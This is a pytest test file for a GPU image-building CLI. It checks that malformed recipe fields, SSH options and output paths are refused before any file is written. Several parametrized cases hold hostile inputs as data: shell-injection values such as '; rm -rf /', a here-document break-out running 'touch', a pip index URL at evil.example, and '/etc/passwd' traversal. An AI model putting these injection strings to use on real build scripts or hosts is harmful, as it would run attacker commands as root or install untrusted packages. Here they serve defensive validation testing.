"""Bad recipe files and bad `image` options: exit 2 with the file (or option), the field and the fix, never a traceback,
and nothing created or half-written."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from inputs.inputs_helpers import run_cli, snapshot

from gpufleet.errors import UserError
from gpufleet.images.recipes import RECIPES, load_recipe

SHIPPED = RECIPES / "cuda13-vllm.yaml"


def variant(folder: Path, **changes) -> Path:
    """The shipped cuda13-vllm recipe with `changes`, written to folder/recipe.yaml."""
    doc = {**yaml.safe_load(SHIPPED.read_text()), **changes}
    path = folder / "recipe.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    return path


def refused(r, *words: str) -> None:
    assert r.code == 2, r.text
    assert "Traceback" not in r.text
    for w in words:
        assert w in r.err, r.err


@pytest.mark.parametrize("archs", [["abc"], ["8"], ["9.0a"], ["8.6", "sm_90"]])
@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"]])
def test_torch_cuda_archs_not_major_minor_is_a_recipe_problem(capsys, tmp_path, archs, command):
    path = variant(tmp_path, torch_cuda_archs=archs)
    bad = next(a for a in archs if a not in ("8.6",))
    r = run_cli([*command, "-r", path], capsys)
    refused(r, str(path), "recipe.torch_cuda_archs.", f"{bad!r} is not a compute capability", 'e.g. "8.6"')


@pytest.mark.parametrize("name", ["../../evil", "a/b", ".hidden", "..", "Cuda13", "x y", ""])
@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"]])
def test_recipe_name_must_be_one_safe_path_component(capsys, tmp_path, name, command):
    path = variant(tmp_path, name=name)
    r = run_cli([*command, "-r", path], capsys)
    refused(r, str(path), "recipe.name", "is not a recipe name", "lowercase letters, digits")


def test_a_value_of_another_type_is_refused_not_coerced(capsys, tmp_path):
    doc = yaml.safe_load(SHIPPED.read_text())
    doc["steps"][0]["timeout_s"] = "600"  # was read as 600
    path = tmp_path / "recipe.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    r = run_cli(["image", "check", "-r", path], capsys)
    refused(r, "recipe.steps.0.timeout_s: Input should be a valid integer, got text '600'; write a whole number")


def test_a_recipe_dtype_vllm_does_not_name_is_refused(capsys, tmp_path):
    """A misspelt dtype (bf16) would never match serving.dtype and so silently not be enforced."""
    path = variant(tmp_path, dtypes=["float16", "bf16"])
    r = run_cli(["image", "check", "-r", path], capsys)
    refused(r, str(path), "recipe.dtypes.1", "'float16', 'bfloat16' or 'float32'")


LONG = "a" * 300  # longer than a file name can be: an OSError (ENAMETOOLONG) if a file were looked up by it


@pytest.mark.parametrize(
    "command",
    [
        ["image", "check"],
        ["image", "build", "--dry-run"],
        ["image", "render", "--out-dir", "OUT"],
        ["image", "lock", "record", "-m", "m.json", "--image", "alicloud/cn-hangzhou=m-1"],
    ],
)
@pytest.mark.parametrize("given", [LONG, "a" * 65, "Cuda13", "by path"])
def test_a_recipe_option_that_is_no_recipe_name_is_refused_naming_the_option(capsys, tmp_path, command, given):
    value = str(tmp_path / f"{LONG}.yaml") if given == "by path" else given
    before = snapshot(tmp_path, RECIPES.parent.parent.parent.parent / "images")
    r = run_cli([str(tmp_path / w) if w in ("OUT", "m.json") else w for w in command] + ["-r", value], capsys)
    if given == "by path":  # a file of that name cannot exist
        refused(r, f"{value[:100]}", "no such file: give the path of a recipe file")
    else:
        refused(r, f"error --recipe: {given[:60]!r}", "is not a recipe name: use 1 to 64 lowercase letters")
    assert snapshot(tmp_path, RECIPES.parent.parent.parent.parent / "images") == before


def test_a_recipe_name_is_at_most_64_characters(tmp_path):
    assert load_recipe(str(variant(tmp_path, name="a" * 64))).name == "a" * 64
    (tmp_path / "long").mkdir()
    with pytest.raises(UserError, match="is not a recipe name: use 1 to 64"):
        load_recipe(str(variant(tmp_path / "long", name="a" * 65)))


@pytest.mark.parametrize(
    ("command", "target"),
    [
        (["image", "check", "-r", "RECIPE"], "RECIPE"),
        (["image", "check"], str(SHIPPED)),  # every recipe of images/recipes/
        (["image", "pipeline", "-s", "STACK"], "STACK"),
        (["image", "lock", "show"], "LOCK"),
    ],
)
def test_an_output_over_an_input_of_an_image_command_is_refused(capsys, tmp_path, monkeypatch, command, target):
    import shutil

    from gpufleet.images.pipeline import EXAMPLES

    root = RECIPES.parents[3]
    shutil.copytree(root / "images", tmp_path / "images")
    shutil.copy(root / "Pulumi.yaml", tmp_path / "Pulumi.yaml")
    (tmp_path / "stacks").mkdir()
    monkeypatch.setenv("GPUFLEET_PROJECT", str(tmp_path))
    stack = tmp_path / "Pulumi.example-cuda13-vllm-alicloud.yaml"
    shutil.copy(EXAMPLES / stack.name, stack)
    files = {"RECIPE": str(variant(tmp_path)), "STACK": str(stack), "LOCK": str(tmp_path / "images" / "lock.json")}
    out = files.get(target, target)
    before = snapshot(tmp_path, RECIPES)
    r = run_cli([files.get(w, w) for w in command] + ["--json", "-o", out], capsys)
    refused(r, f"error -o: {out}: is an input of this command")
    assert snapshot(tmp_path, RECIPES) == before


def test_shipped_recipe_names_and_archs_pass():
    for path in RECIPES.glob("*.yaml"):
        load_recipe(path.stem)


def test_safe_recipe_name_in_a_file_of_its_own_loads(tmp_path):
    assert load_recipe(str(variant(tmp_path, name="my_recipe.v2"))).name == "my_recipe.v2"
    with pytest.raises(UserError) as e:
        (tmp_path / "up").mkdir()
        load_recipe(str(variant(tmp_path / "up", name="../up")))
    assert [p.path for p in e.value.problems] == ["recipe.name"]


# --- image render --out-dir: checked before anything is created, written all or nothing ---------------------------


def render(capsys, out_dir, recipe="cuda13-vllm"):
    return run_cli(["image", "render", "-r", recipe, "--out-dir", out_dir], capsys)


def test_out_dir_that_is_a_file_is_refused(capsys, tmp_path):
    f = tmp_path / "file"
    f.write_text("keep\n")
    refused(render(capsys, f), "--out-dir", str(f), "exists and is not a folder")
    refused(render(capsys, f / "sub"), "--out-dir", f"{f} is a file, not a folder")
    assert f.read_text() == "keep\n" and sorted(tmp_path.iterdir()) == [f]


@pytest.mark.skipif(not Path("/proc/self").is_dir(), reason="needs /proc")
def test_out_dir_where_no_folder_can_be_made_is_refused(capsys):
    refused(render(capsys, "/proc/gpufleet-render"), "--out-dir", "/proc/gpufleet-render: cannot create it: /proc")


@pytest.mark.parametrize("recipe", ["nope", "../../evil"])
def test_bad_recipe_creates_no_out_dir(capsys, tmp_path, recipe):
    refused(render(capsys, tmp_path / "new" / "scripts", recipe))
    assert list(tmp_path.iterdir()) == []


def test_invalid_recipe_file_creates_no_out_dir(capsys, tmp_path):
    path = variant(tmp_path, torch_cuda_archs=["abc"])
    refused(render(capsys, tmp_path / "new", path), "recipe.torch_cuda_archs.0")
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_in_place_of_a_script_writes_nothing(capsys, tmp_path):
    (tmp_path / "02-apt-packages.check.sh").mkdir()
    before = snapshot(tmp_path)
    refused(render(capsys, tmp_path), "--out-dir", "02-apt-packages.check.sh: is a folder: not replacing it")
    assert snapshot(tmp_path) == before


def test_a_write_failing_midway_leaves_nothing_behind(capsys, tmp_path, monkeypatch):
    from gpufleet import files

    real, calls = files._write_temp, []

    def full_disk(folder, name, data, mode):
        calls.append(name)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real(folder, name, data, mode)

    monkeypatch.setattr(files, "_write_temp", full_disk)
    refused(render(capsys, tmp_path / "a" / "b"), "--out-dir", "No space left on device; nothing was written")
    assert list(tmp_path.iterdir()) == []  # the folders it made are gone too
    old = tmp_path / "old"
    assert render(capsys, old).code == 0
    (old / "01-apt-repos.check.sh").write_text("edited\n")
    before, calls[:] = snapshot(old), []
    refused(render(capsys, old), "No space left on device")
    assert snapshot(old) == before  # the old scripts stay, no temporary file is left


def test_render_replaces_its_own_scripts(capsys, tmp_path):
    assert render(capsys, tmp_path / "s").code == 0
    first = snapshot(tmp_path)
    assert len(first) == 15 + 1
    assert render(capsys, tmp_path / "s").code == 0
    assert snapshot(tmp_path) == first


@pytest.mark.parametrize("step", ["../../x", "a/b", "two\nlines", ".hidden"])
def test_step_name_must_be_one_safe_path_component(capsys, tmp_path, step):
    doc = yaml.safe_load(SHIPPED.read_text())
    path = variant(tmp_path, steps=[{**doc["steps"][0], "name": step}, *doc["steps"][1:]])
    refused(render(capsys, tmp_path / "out", path), str(path), "recipe.steps.0.name", "is not a step name")
    assert not (tmp_path / "out").exists()


# --- image build: the SSH target is checked before anything connects ------------------------------------------------


def build(capsys, *args):
    return run_cli(["image", "build", "-r", "cuda13-vllm", "--dry-run", "--retries", "0", *args], capsys)


@pytest.mark.parametrize("port", ["70000", "0", "-1", "65536"])
def test_port_outside_1_to_65535_is_refused(capsys, port):
    refused(build(capsys, "-H", "127.0.0.1", "-p", port), "--port", "1<=x<=65535")


@pytest.mark.parametrize(
    "host, why",
    [
        ("http://127.0.0.1", "is a URL or a path"),
        ("127.0.0.1:1", "and the port with --port"),
        ("a" * 300, "is not an IP address or a host name"),
        ("a" * 64 + ".example.com", "at most 63 characters each"),
        ("", "is empty"),
        ("root@127.0.0.1", "and the user with --user"),
        ("999.1.1.1", "is not an IP address or a host name"),
        ("bücher.example", "is not an IP address or a host name"),
    ],
)
def test_host_that_is_not_an_address_is_refused(capsys, tmp_path, host, why):
    out = tmp_path / "m.json"
    refused(build(capsys, "-H", host, "--manifest-out", out), "--host", why, "e.g. --host 203.0.113.7")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("host", ["127.0.0.1", "::1", "localhost", "builder-1.example.com", "builder.example.com.", "a" * 63])
def test_addresses_pass(host):
    from gpufleet.cli.image import _host_problem

    assert _host_problem(host) is None


@pytest.mark.parametrize("user, why", [("", "is empty"), ("a b", "'a b' is not a user name"), ("me@host", "is not a user")])
def test_user_that_is_no_login_name_is_refused(capsys, user, why):
    refused(build(capsys, "-H", "127.0.0.1", "-u", user), "--user", why, "e.g. --user ubuntu")


@pytest.mark.parametrize("flag, value", [("--backoff", "1e308"), ("--keepalive-s", "1e9"), ("--connect-timeout", "99999999999")])
def test_a_wait_longer_than_an_hour_is_refused_before_connecting(capsys, tmp_path, flag, value):
    """--backoff 1e308 was an OverflowError traceback at the first reconnect (time.sleep); a keepalive or connect timeout
    that large overflows the same way (threading's wait, the socket's timeout)."""
    refused(build(capsys, "-H", "127.0.0.1", "-p", "1", flag, value), f"{flag}: ", "is more than an hour: give at most 3600")


def test_the_reconnect_backoff_doubles_up_to_an_hour():
    from gpufleet.images.runner import ConnectionLost, Runner

    def lost():
        raise ConnectionLost("cannot connect")

    slept: list[float] = []
    runner = Runner(load_recipe("cuda13-vllm"), lost, report=lambda e: None, retries=80, backoff_s=1000, sleep=slept.append)
    with pytest.raises(ConnectionLost, match="gave up after 80"):
        runner.build(dry_run=True)
    assert slept[:4] == [1000, 2000, 3600, 3600] and len(slept) == 80 and max(slept) == 3600


def test_missing_or_folder_key_file_is_refused_before_connecting(capsys, tmp_path):
    refused(build(capsys, "-H", "127.0.0.1", "-k", tmp_path / "nope"), f"--key: {tmp_path / 'nope'}: no such file")
    refused(build(capsys, "-H", "127.0.0.1", "-k", tmp_path), f"--key: {tmp_path}: is a folder")


def test_a_key_file_that_is_no_loadable_private_key_is_refused_before_connecting(capsys, tmp_path):
    """Each was a lost connection: three reconnects with backoff, exit 1, "re-run to resume" (or a refused key)."""
    key = private_key(tmp_path / "key")
    kh = tmp_path / "kh"
    r = build(capsys, "-H", "127.0.0.1", "-p", "1", "-k", f"{key}.pub", "--known-hosts", kh)
    refused(r, f"--key: {key}.pub: is not a private key paramiko can load (this is a public key")
    r = build(capsys, "-H", "127.0.0.1", "-p", "1", "--known-hosts", kh)
    refused(r, "--key: missing: give the builder's private key file (the build uses no SSH agent and no default keys)")
    locked = private_key(tmp_path / "locked", passphrase=b"secretpass")
    r = build(capsys, "-H", "127.0.0.1", "-p", "1", "-k", locked, "--known-hosts", kh)
    refused(r, f"--key: {locked}: the key is encrypted; the build takes no passphrase and uses no agent")
    assert "refused the key" not in r.err
    # a DSA key: cryptography reads it, paramiko has no class for it (an UnknownKeyType traceback)
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import dsa

    dsa_key = tmp_path / "dsa"
    dsa_key.write_bytes(
        dsa.generate_private_key(key_size=1024).private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
        )
    )
    r = build(capsys, "-H", "127.0.0.1", "-p", "1", "-k", dsa_key, "--known-hosts", kh)
    refused(r, f"--key: {dsa_key}: is a key paramiko does not take (")
    ok = build(capsys, "-H", "127.0.0.1", "-p", "1", "-k", key, "--known-hosts", kh)  # a good key: it tries to connect
    assert ok.code == 1 and "cannot connect" in ok.err, ok.text


def test_an_unwritable_known_hosts_with_accept_new_host_key_is_refused_before_connecting(capsys, tmp_path):
    key = private_key(tmp_path / "key")
    r = build(capsys, "-H", "127.0.0.1", "-p", "1", "-k", key, "--known-hosts", "/proc/gpf/kh", "--accept-new-host-key")
    refused(r, "--known-hosts: /proc/gpf/kh: cannot write in folder /proc")
    assert "cannot connect" not in r.err
    r = build(capsys, "-H", "127.0.0.1", "-p", "1", "-k", key, "--known-hosts", "/proc/gpf/kh")  # only read: no such file
    assert r.code == 1 and "cannot connect" in r.err, r.text


def test_known_hosts_that_is_a_folder_or_not_utf8_is_refused(capsys, tmp_path):
    refused(build(capsys, "-H", "127.0.0.1", "--known-hosts", tmp_path), f"--known-hosts: {tmp_path}: is a folder")
    bad = tmp_path / "known_hosts"
    bad.write_bytes(b"# hosts\n\xff\xfe\n")
    refused(build(capsys, "-H", "127.0.0.1", "--known-hosts", bad), f"--known-hosts: {bad}:2:1: not UTF-8 text")


def test_every_target_problem_is_named_at_once(capsys, tmp_path):
    r = build(capsys, "-H", "", "-u", "", "-k", tmp_path / "nope", "--known-hosts", tmp_path)
    refused(r, "--host: is empty", "--user: is empty", "--key:", "--known-hosts:")


def test_known_hosts_lines_that_are_no_host_key_are_skipped_as_openssh_does(tmp_path):
    import base64

    from gpufleet.images.runner import read_known_hosts

    good = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(range(32))).decode()
    kh = tmp_path / "known_hosts"
    kh.write_text(
        "# comment\n\nshort line\n"
        "bad ssh-ed25519 !!!notbase64\n"  # paramiko's own loader: InvalidHostKey
        "short ssh-rsa AAAAB3NzaC1yc2E=\n"  # paramiko's own loader: ValueError
        "odd ssh-foo AAAA\n"
        f"[127.0.0.1]:2222 ssh-ed25519 {good}\n"
    )
    keys = read_known_hosts(kh)
    assert list(keys) == ["[127.0.0.1]:2222"] and keys["[127.0.0.1]:2222"]["ssh-ed25519"].get_base64() == good
    assert len(read_known_hosts(tmp_path / "none")) == 0  # no file yet: no keys (--accept-new-host-key creates it)


# --- --recipe: a recipe name or the path of a recipe file (the help of check, build, render and lock record) -------


def test_recipe_given_as_a_file_name_without_yaml_suffix_is_read_from_that_file(capsys, tmp_path, monkeypatch):
    import json

    monkeypatch.chdir(tmp_path)
    doc = {**yaml.safe_load(SHIPPED.read_text()), "name": "mine"}
    (tmp_path / "mine.json").write_text(json.dumps(doc))
    r = run_cli(["image", "check", "-r", "mine.json", "--json"], capsys)
    assert r.code == 0, r.text
    assert '"recipe": "mine"' in r.out


def test_recipe_that_is_neither_a_name_nor_a_file_says_both(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    refused(
        run_cli(["image", "check", "-r", "x.json"], capsys),
        "no such image recipe 'x.json' (choose one of: cuda12-vllm-v100, cuda13-vllm); no file x.json either",
        "give a recipe name or the path of a recipe file",
    )


@pytest.mark.parametrize("path", ["./x.yaml", "/nonexistent/r.yaml", "sub/x"])
def test_recipe_path_that_does_not_exist_says_no_such_file(capsys, tmp_path, monkeypatch, path):
    monkeypatch.chdir(tmp_path)
    r = run_cli(["image", "check", "-r", path], capsys)
    refused(r, "no such file: give the path of a recipe file, or a recipe name (cuda12-vllm-v100, cuda13-vllm)")
    assert "no such image recipe" not in r.err


def test_a_recipe_named_twice_is_checked_once(capsys):
    import json

    r = run_cli(["image", "check", "-r", "cuda13-vllm", "-r", "cuda13-vllm", "--json"], capsys)
    assert r.code == 0 and [x["recipe"] for x in json.loads(r.out)["recipes"]] == ["cuda13-vllm"], r.text


@pytest.mark.parametrize("template", ["nope", "apt_repo", "../templates/apt_repos"])
@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]])
def test_a_step_template_that_does_not_exist_is_named_not_a_traceback(capsys, tmp_path, template, command):
    doc = yaml.safe_load(SHIPPED.read_text())
    path = variant(tmp_path, steps=[{**doc["steps"][0], "template": template}, *doc["steps"][1:]])
    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
    r = run_cli([*command, "-r", path, *extra], capsys)
    refused(r, str(path), "recipe.steps.0.template", f"no template {template}.sh.j2 in", "apt_repos")
    assert not (tmp_path / "out").exists()


def test_a_step_name_twice_and_a_missing_pin_name_their_field(capsys, tmp_path):
    doc = yaml.safe_load(SHIPPED.read_text())
    pins = {k: v for k, v in doc["pins"].items() if k != "vllm"}
    path = variant(tmp_path, pins=pins, steps=[doc["steps"][0], *doc["steps"]])
    r = run_cli(["image", "check", "-r", path], capsys)
    refused(r, f"{path}: recipe.steps: step names repeat: apt-repos", f"{path}: recipe.pins: missing vllm")
    assert "recipe.:" not in r.err


@pytest.mark.parametrize(
    "changes, said",
    [
        ({"regions": {"alicloudd": ["cn-hangzhou"]}}, "recipe.regions: unknown cloud 'alicloudd' (did you mean 'alicloud'?)"),
        (
            {"regions": {"alicloud": ["cn-hangzhuo"]}},
            "'cn-hangzhuo' is not a region of src/gpufleet/stacks/data/alicloud.yaml (did you",
        ),
        ({"regions": {"alicloud": ["cn-beijing", "cn-beijing"]}}, "recipe.regions: alicloud: cn-beijing listed twice"),
        ({"gpus": ["T4", "A10", "T4"]}, "recipe.gpus: T4 listed twice: name each once"),  # was accepted
        ({"base_image": {"tencent": {"name_regex": "x", "source": "y"}}}, "recipe.base_image: unknown cloud 'tencent'"),
    ],
)
def test_a_cloud_or_region_of_no_catalog_in_a_recipe_is_named(capsys, tmp_path, changes, said):
    """A misspelt cloud under `regions` was skipped without a word: the image copied nowhere there, no CLI of it."""
    r = run_cli(["image", "check", "-r", variant(tmp_path, **changes)], capsys)
    refused(r, said)


def test_a_stack_reads_its_recipe_for_its_own_cloud_and_the_image_commands_for_every_cloud(tmp_path):
    """A stack's validation and program read the recipe for the stack's cloud: a misspelt region of another cloud is
    the image commands' to refuse (above), not a reason to refuse a stack of this one; its own cloud's is refused."""
    path = str(variant(tmp_path, regions={"alicloud": ["cn-hangzhuo"], "tencentcloud": ["ap-guangzhou"]}))
    assert load_recipe(path, cloud="tencentcloud").regions["alicloud"] == ["cn-hangzhuo"]
    for cloud in ("alicloud", None):
        with pytest.raises(UserError) as exc:
            load_recipe(path, cloud=cloud)
        assert "'cn-hangzhuo' is not a region of src/gpufleet/stacks/data/alicloud.yaml" in exc.value.problems[0].message


@pytest.fixture
def images(tmp_path, monkeypatch) -> Path:
    """An images/ folder of the test's own (a recipe's python_lock is a file under images/): tmp_path/images."""
    from gpufleet.images import recipes

    folder = tmp_path / "images"
    (folder / "locks").mkdir(parents=True)
    monkeypatch.setattr(recipes, "IMAGES", folder)
    return folder


LOCK_COMMANDS = [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]]


def _run_lock(capsys, tmp_path, command, python_lock):
    path = variant(tmp_path, python_lock=python_lock)
    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
    return path, run_cli([*command, "-r", path, *extra], capsys)


@pytest.mark.parametrize("command", LOCK_COMMANDS)
@pytest.mark.parametrize("lock", ["folder", "not UTF-8", "empty name"])
def test_a_python_lock_that_cannot_be_read_is_named_not_a_traceback(capsys, tmp_path, images, command, lock):
    """python_lock naming a folder or a non-UTF-8 file was an IsADirectoryError / UnicodeDecodeError traceback (exit 1);
    an empty name was read as no lock."""
    target = images / "locks" / "lock.txt"
    if lock == "folder":
        target.mkdir()
    else:
        target.write_bytes(b"\xff\xfe")
    path, r = _run_lock(capsys, tmp_path, command, "" if lock == "empty name" else "locks/lock.txt")
    said = {"folder": f"{target}: is a folder", "not UTF-8": f"{target}: not UTF-8 text", "empty name": "is empty"}[lock]
    refused(r, f"{path}: recipe.python_lock: {said}")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", LOCK_COMMANDS)
@pytest.mark.parametrize("lock", ["missing", "empty", "comments only"])
def test_a_python_lock_that_is_missing_or_empty_is_bad_input_and_nothing_is_rendered(capsys, tmp_path, images, command, lock):
    """A missing python_lock was a failed `image check` (exit 1), and `image render` wrote an install script whose lock
    was empty (exit 0): pip --require-hashes -r on it installs nothing."""
    if lock != "missing":
        (images / "locks" / "lock.txt").write_text("" if lock == "empty" else "# nothing pinned\n\n")
    path, r = _run_lock(capsys, tmp_path, command, "locks/lock.txt")
    said = "is missing" if lock == "missing" else "holds no requirement"
    refused(r, f"{path}: recipe.python_lock: locks/lock.txt {said}; run scripts/lock_image_python.py cuda13-vllm")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", LOCK_COMMANDS)
@pytest.mark.parametrize("lock", ["/etc/hostname", "../../../../../etc/passwd", "locks/../../x.txt", "~/lock.txt"])
def test_a_python_lock_outside_images_is_refused(capsys, tmp_path, command, lock):
    """Review F2: python_lock took an absolute path or one climbing out of images/, and render wrote that file's text
    into the install script (exit 0). The lock is named relative to images/ (docs/images.md)."""
    path, r = _run_lock(capsys, tmp_path, command, lock)
    refused(r, f"{path}: recipe.python_lock: {lock!r} is not a path inside images/", "relative to images/, without '..'")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", LOCK_COMMANDS)
def test_a_python_lock_that_is_a_link_out_of_images_is_refused(capsys, tmp_path, images, command):
    outside = tmp_path / "elsewhere.txt"
    outside.write_text(SHIPPED_LOCK.read_text())
    (images / "locks" / "lock.txt").symlink_to(outside)
    path, r = _run_lock(capsys, tmp_path, command, "locks/lock.txt")
    refused(r, f"{path}: recipe.python_lock: locks/lock.txt is a link that leads out of images/ (to {outside})")
    assert not (tmp_path / "out").exists()


SHIPPED_LOCK = RECIPES.parent / "locks" / "cuda13-vllm.txt"
HASH = "--hash=sha256:" + "0" * 64


@pytest.mark.parametrize("command", LOCK_COMMANDS)
@pytest.mark.parametrize(
    "tail, said",
    [
        # the here-document's end word, then commands: they ran as root on the builder (review F2)
        ("GPUFLEET_LOCK\ntouch /tmp/PWNED_LOCK\ncat <<'X'\n", "is not a pip hash lock: lines 406, 407, 408 not name==version"),
        ("--index-url https://evil.example/simple\n", "is not a pip hash lock: line 406 not name==version"),
        ("x==1 --hash=sha256:abc\n", "is not a pip hash lock: line 406"),
        (f"x==1 \\\n  {HASH}  # c \\\ny==2 {HASH}\n", "is not a pip hash lock: line 407"),  # pip joins y into the comment
        ("x==1\n", "has a requirement without a --hash=sha256: (line 406)"),  # pip --require-hashes refuses it at build
        ("".join(f"bad{i}\n" for i in range(9)), "is not a pip hash lock: lines 406, 407, 408 and 6 more not"),
    ],
    ids=["end-word", "option", "short-hash", "comment-continued", "no-hash", "many"],
)
def test_a_python_lock_with_a_line_that_is_not_of_a_hash_lock_is_refused(capsys, tmp_path, images, command, tail, said):
    (images / "locks" / "lock.txt").write_text(SHIPPED_LOCK.read_text() + tail)
    path, r = _run_lock(capsys, tmp_path, command, "locks/lock.txt")
    refused(r, f"{path}: recipe.python_lock: locks/lock.txt {said}", "run scripts/lock_image_python.py cuda13-vllm")
    assert "PWNED" not in r.text and "evil" not in r.text  # a line is named by its number, not repeated
    assert not (tmp_path / "out").exists()


def test_a_python_lock_without_a_final_newline_still_ends_its_here_document(capsys, tmp_path, images):
    (images / "locks" / "lock.txt").write_text(SHIPPED_LOCK.read_text().rstrip("\n"))
    path, r = _run_lock(capsys, tmp_path, ["image", "render"], "locks/lock.txt")
    assert r.code == 0, r.text
    script = next((tmp_path / "out").glob("*-python-packages.apply.sh")).read_text()
    assert heredocs(script) == [SHIPPED_LOCK.read_text()]


def heredocs(script: str) -> list[str]:
    """The bodies of the script's quoted here-documents (<<'WORD'), each read as bash reads it: up to the line WORD."""
    import re

    out, lines = [], iter(script.split("\n"))
    for line in lines:
        if m := re.search(r"<<'(\w+)'", line):
            body = []
            for inner in lines:
                if inner == m.group(1):
                    break
                body.append(inner + "\n")
            out.append("".join(body))
    return out


def test_a_file_with_a_line_equal_to_the_here_document_end_word_is_written_whole(capsys, tmp_path):
    """A node file (here a recipe's own vllm.service template) with a line GPUFLEET_FILE ended the serving layout's
    here-document there, and its next lines ran as commands: the end word is one that no line of the text is."""
    (tmp_path / "tpl" / "node").mkdir(parents=True)
    unit = "[Unit]\nDescription=x\nGPUFLEET_FILE\nGPUFLEET_FILE_2\n[Service]\nExecStart=/bin/true\n"
    (tmp_path / "tpl" / "node" / "vllm.service.j2").write_text(unit)
    path = variant(tmp_path, templates="tpl")
    r = run_cli(["image", "render", "-r", path, "--out-dir", tmp_path / "out"], capsys)
    assert r.code == 0, r.text
    for phase in ("check", "apply"):
        script = next((tmp_path / "out").glob(f"*-serving-layout.{phase}.sh")).read_text()
        assert unit in heredocs(script), phase


@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]])
def test_a_gpu_kind_of_no_catalog_in_a_recipe_is_bad_input(capsys, tmp_path, command):
    """`gpus: [T4, H100]` was a failed `image check` (exit 1) and `image render` wrote the scripts (exit 0)."""
    path = variant(tmp_path, gpus=["T4", "H100", "A1O"])
    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
    r = run_cli([*command, "-r", path, *extra], capsys)
    refused(
        r,
        f"{path}: recipe.gpus: 'H100' is not a GPU kind of src/gpufleet/stacks/data/gpus.yaml",
        "'A1O' is not",
        "did you mean 'A10'",
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "field, value, said",
    [
        ("user", "v llm;touch /tmp/x", "is not a system user name"),  # was written into User= and useradd as is
        ("prefix", "opt/gpufleet", "is not an absolute path"),  # the layout under the builder's working folder
        ("models", "/data/../models", "is not an absolute path"),
        ("venv", "/opt/gpufleet/venv\nExecStartPre=/bin/false", "is not an absolute path"),
        ("unit", "vllm", "is not a service unit name"),
        ("cache", "../cache", "is not a CacheDirectory= name"),
    ],
)
def test_a_layout_value_that_would_break_a_script_or_unit_is_refused(capsys, tmp_path, field, value, said):
    doc = yaml.safe_load(SHIPPED.read_text())
    r = run_cli(["image", "check", "-r", variant(tmp_path, layout={**doc["layout"], field: value})], capsys)
    refused(r, f"recipe.layout.{field}: ", said)


@pytest.mark.parametrize(
    "where, value, field, said",
    [
        (("downloads", 0, "sha256"), "xyz", "recipe.downloads.0.sha256", "is not a sha256: 64 lowercase hex digits"),
        (("downloads", 0, "sha256"), "TODO", "recipe.downloads.0.sha256", "is not a sha256"),  # was a "pinned" hash
        (("apt_repos", 0, "keyring_sha256"), "abc", "recipe.apt_repos.0.keyring_sha256", "is not a sha256"),
        (("downloads", 0, "dest"), "../../etc/passwd", "recipe.downloads.0.dest", "is not an absolute path"),
        (("downloads", 0, "dest"), "usr/local/bin/x", "recipe.downloads.0.dest", "is not an absolute path"),
        (("downloads", 0, "mode"), "755; rm -rf /", "recipe.downloads.0.mode", "is not a file mode"),
        (("downloads", 1, "mode"), 0o644, "recipe.downloads.1.mode", 'quote it, "0644"'),  # YAML's unquoted 0644
        (("apt_repos", 0, "line"), "deb\n[signed-by=/k.gpg] https://x /", "recipe.apt_repos.0.line", "is not one line"),
        # free text went into the shell unquoted: a space made the step impossible, `;` ran (review finding 7)
        (("apt_repos", 0, "name"), "nvidia cuda", "recipe.apt_repos.0.name", "'nvidia cuda' is not an apt source name"),
        (("apt_repos", 0, "name"), "x;touch${IFS}/tmp/PWNED;y", "recipe.apt_repos.0.name", "is not an apt source name"),
        (("apt_repos", 0, "name"), "../../cron.d/x", "recipe.apt_repos.0.name", "is not an apt source name"),
        (("apt_packages", 2, "name"), "prometheus-node-exporter; reboot", "recipe.apt_packages.2.name", "not a Debian package"),
        (("apt_packages", 2, "version"), "1.7.0 -1", "recipe.apt_packages.2.version", "is not a Debian version"),
        # review F10: "String should match pattern '^[0-9A-F]{40}$'"
        (("apt_repos", 0, "keyring_fingerprint"), "eb69 3b30", "recipe.apt_repos.0.keyring_fingerprint", "40 uppercase hex"),
        # written unquoted into /etc/apt/sources.list.d/<name>.list of the scripts: a ';' ran a command on the builder
        (("apt_repos", 0, "name"), "x; touch /tmp/PWN; echo", "recipe.apt_repos.0.name", "is not an apt source name"),
        (("apt_repos", 0, "keyring_path"), "/usr/share/k\nevil", "recipe.apt_repos.0.keyring_path", "not an absolute path"),
        (
            ("python_tools",),
            [{"package": "x", "version": "1.0\nevil", "command": "x"}],
            "recipe.python_tools.0.version",
            "is not a version",
        ),
        (
            ("python_tools",),
            [{"package": "x y", "version": "1.0", "command": "x"}],
            "recipe.python_tools.0.package",
            "not a PyPI project",
        ),
    ],
)
@pytest.mark.parametrize("command", [["image", "check"], ["image", "render"]])
def test_a_recipe_value_written_into_the_build_scripts_is_held_to_its_syntax(
    capsys, tmp_path, command, where, value, field, said
):
    """A download sha256 that is not hex (a TODO counted as pinned), a relative `dest`, a newline in an apt line or a
    package name that is not one were rendered into the build scripts (`image check` and `image render` exit 0)."""
    path, r = _run_with(capsys, tmp_path, command, where, value)
    refused(r, f"{path}: {field}: ", said)
    assert not (tmp_path / "out").exists()


def _run_with(capsys, tmp_path, command, where, value):
    """(the recipe file, the CLI's result) of `command` on the shipped recipe with `value` at `where`: a top-level key
    (one name) or an item's field (key, index, name); render writes into tmp_path/out."""
